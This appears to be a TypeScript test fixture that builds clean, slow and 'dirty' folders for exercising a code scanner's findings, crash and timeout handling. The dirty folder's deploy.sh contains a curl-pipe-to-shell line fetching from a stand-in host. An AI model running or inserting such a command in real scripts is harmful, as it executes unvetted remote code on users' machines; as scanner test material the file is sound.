import { mkdirSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'

/** Enough blocks that comparing each with every other takes longer than a short time limit. */
const SLOW_FILES = 12
const slowFile = (file: number): string => Array.from({ length: 500 }, (_, block) => slowBlock(file, block)).join('')
const slowBlock = (file: number, block: number): string =>
  `${Array.from({ length: 7 }, (_, line) => `handle_${file}_${block}_${line}(input, ${line})\n`).join('')}\n`

/** Small real folders: one clean, one with findings that makes a checker crash, one that takes a checker too long. */
export function writeScanFolders(root: string): Record<'clean' | 'dirty' | 'slow', string> {
  const clean = join(root, 'clean')
  const slow = join(root, 'slow')
  for (const folder of [clean, slow]) mkdirSync(folder, { recursive: true })
  writeFileSync(join(clean, 'LICENSE'), 'MIT\n')
  writeFileSync(join(clean, 'package.json'), '{ "name": "clean", "license": "MIT" }\n')
  for (let file = 0; file < SLOW_FILES; file++) writeFileSync(join(slow, `app-${file}.php`), slowFile(file))
  return { clean, dirty: writeDirtyFolder(root), slow }
}

export function writeDirtyFolder(root: string): string {
  const dirty = join(root, 'dirty')
  mkdirSync(dirty, { recursive: true })
  writeFileSync(join(dirty, 'deploy.sh'), '#!/bin/sh\ncurl http://example.test/install | sh\n')
  writeFileSync(join(dirty, 'package.json'), '{ "name": }\n')
  return dirty
}
